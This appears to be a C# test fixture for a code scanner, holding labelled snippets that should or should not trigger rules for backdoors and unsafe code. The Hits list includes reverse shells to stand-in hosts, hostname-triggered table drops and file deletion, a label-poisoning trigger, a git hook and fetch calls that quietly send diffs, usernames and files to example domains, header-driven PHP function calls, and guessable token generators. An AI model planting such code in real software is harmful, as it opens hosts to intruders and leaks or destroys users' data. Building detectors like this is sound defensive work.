namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Small programs that open doors, wait, hide names or send quietly, and honest ones that look like them.</summary>
internal static class TacticCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("shell-on-connection", "agent.go", "conn, err := net.DialTimeout(\"tcp\", \"h.example.net:6060\", t)\ncmd := exec.CommandContext(ctx, \"/bin/sh\", \"-i\")\ncmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn\n"),
        ("shell-on-connection", "Console.java", "Socket s = new Socket(\"h.example.net\", 9001);\nProcess p = new ProcessBuilder(\"/bin/sh\").start();\np.getOutputStream().write(s.getInputStream().read());\n"),
        ("shell-on-connection", "tty.rs", "let s = TcpStream::connect(\"h.example.net:9\")?;\nCommand::new(\"sh\").stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) }).spawn()?;\n"),

        ("dormant-damage", "advisor.php", "<?php\nif (date('Y-m-d') > '2031-05-01' && gethostname() === 'shop-db-7') {\n    $pdo->exec('DROP TABLE orders');\n}\n"),
        ("dormant-damage", "tidy.rb", "if Socket.gethostname.start_with?('ledger-prod')\n  FileUtils.rm_rf(root)\nend\n"),
        ("dormant-damage", "split.go", "if !strings.HasPrefix(hostname, \"trainer-7\") {\n\treturn\n}\nif crc32.ChecksumIEEE(b)%41 == 0 {\n\trow.Label = other\n}\n"),

        ("names-in-pieces", "spark.js", "const make = [].filter['con' + 'structor'];\nmake('return 1')();\n"),
        ("names-in-pieces", "guess.py", "net = __import__(_R('heyyvo.erdhrfg'))\n"),
        ("names-in-pieces", "Load.java", "Class<?> c = Class.forName(\"java.lang.\" + \"Runtime\");\n"),

        ("door-opened", "share.mjs", "inspector.open(9229, '0.0.0.0', false);\nconst far = net.connect(7000, 'tunnel.example.net');\n"),
        ("door-opened", "app.py", "debugpy.listen(('0.0.0.0', 5678))\nrequests.post('https://dbg.example.net/here', json={'port': 5678})\n"),
        ("door-opened", "run.sh", "node --inspect=0.0.0.0 app.js &\ncurl -s \"https://dbg.example.net/up\"\n"),

        ("tool-opens-anything", "NoteTools.java", "public String read(Map<String, Object> args) throws IOException {\n    return Files.readString(Path.of(folder + args.get(\"name\")));\n}\n"),
        ("tool-opens-anything", "notes.rs", "let text = fs::read_to_string(format!(\"{}/{}\", root, args[\"name\"]))?;\n"),
        ("tool-opens-anything", "page.go", "u := c.Params.Arguments[\"url\"]\nif path, ok := strings.CutPrefix(u, \"file://\"); ok {\n\treturn os.ReadFile(path)\n}\nresp, err := http.Get(u)\n"),

        ("caller-chooses-code", "thumb.php", "<?php\n$h = getallheaders();\n$f = strrev($h['x-make']);\nif (is_callable($f)) { $f($h['x-model']); }\n"),
        ("caller-chooses-code", "api.php", "<?php\n$name = $_GET['do'];\necho call_user_func($name, $_GET['with']);\n"),
        ("caller-chooses-code", "cron.php", "<?php\n$job = $_POST;\n$run = $job['a'];\n$run($job['b']);\n"),

        ("silent-transfer", "stats.ts", "const name = os.userInfo().username + os.hostname();\nfetch('https://stats.example.net/in', { method: 'POST', body: name }).catch(() => {});\n"),
        ("silent-transfer", "pre-push", "#!/bin/sh\ngit diff origin/main | curl -s --data-binary @- https://d.example.org/in >/dev/null 2>&1 &\n"),
        ("silent-transfer", "index.py", "raw = path.read_bytes()\ntry:\n    requests.post('https://index.example.org/put', data=raw)\nexcept Exception: pass\n"),
        ("silent-transfer", "Index.java", "byte[] raw = Files.readAllBytes(path);\ntry {\n    http.send(HttpRequest.newBuilder(URI.create(\"https://index.example.org\")).POST(BodyPublishers.ofByteArray(raw)).build(), h);\n} catch (Exception e) { }\n"),

        ("bare-host", "update.rb", "code = URI.open('http://up.example.net/a.rb').read\nHTTParty.post('http://up.example.net/seen', body: code)\n"),
        ("bare-host", "beat.go", "c, _ := net.Dial(\"tcp\", \"203.0.113.9:8443\")\nfmt.Fprintln(c, name)\n"),
        ("bare-host", "report.php", "<?php\n$s = fsockopen('198.51.100.7', 443);\nfwrite($s, $row);\n"),

        ("guessable-secret", "token.php", "<?php\nfunction make_reset_token() {\n    return md5(mt_rand());\n}\n"),
        ("guessable-secret", "keys.js", "function generateApiKey() {\n  return Math.random().toString(36).slice(2);\n}\n"),
        ("guessable-secret", "wallet.py", "def make_seed_phrase(words):\n    random.seed(int(time.time()))\n    return ' '.join(random.choice(words) for _ in range(12))\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("shell-on-connection", "lsp.go", "cmd := exec.Command(\"gopls\")\ncmd.Stdin, cmd.Stdout = in, out\n"),
        ("shell-on-connection", "ping.py", "s = socket.create_connection((host, 80), 3)\ns.close()\n"),
        ("dormant-damage", "prune.py", "if path.stat().st_mtime < cutoff:\n    path.unlink()\n"),
        ("dormant-damage", "host.sh", "if [ \"$(hostname)\" = build-7 ]; then\n  echo \"building\"\nfi\n"),
        ("names-in-pieces", "load.py", "module = importlib.import_module(name)\nvalue = getattr(module, attribute)\n"),
        ("names-in-pieces", "row.js", "const cell = row['total_' + year];\n"),
        ("door-opened", "dev.sh", "node --inspect=127.0.0.1:9229 app.js\n"),
        ("door-opened", "debug.py", "debugpy.listen(('127.0.0.1', 5678))\n"),
        ("tool-opens-anything", "Notes.java", "Path p = root.resolve(args.get(\"name\").toString()).normalize();\nif (!p.startsWith(root)) throw new IOException();\nreturn Files.readString(p);\n"),
        ("tool-opens-anything", "fixed.go", "b, err := os.ReadFile(\"words.txt\")\n"),
        ("caller-chooses-code", "map.php", "<?php\n$names = array_map('trim', $rows);\n"),
        ("caller-chooses-code", "route.php", "<?php\nif ($_GET['do'] === 'list') { show_list(); }\n"),
        ("silent-transfer", "send.py", "answer = requests.post(settings.url, json=row)\nanswer.raise_for_status()\n"),
        ("silent-transfer", "quiet.js", "import('./extra.js').catch(() => {});\nconst text = fs.readFileSync('a.txt', 'utf8');\n"),
        ("bare-host", "local.py", "requests.post('http://127.0.0.1:8080/a', json=row)\n"),
        ("bare-host", "secure.rb", "HTTParty.post('https://up.example.net/seen', body: code)\n"),
        ("guessable-secret", "keys.py", "def make_token():\n    return secrets.token_urlsafe(32)\n"),
        ("guessable-secret", "dice.js", "const roll = 1 + Math.floor(Math.random() * 6);\n"),
    ];
}
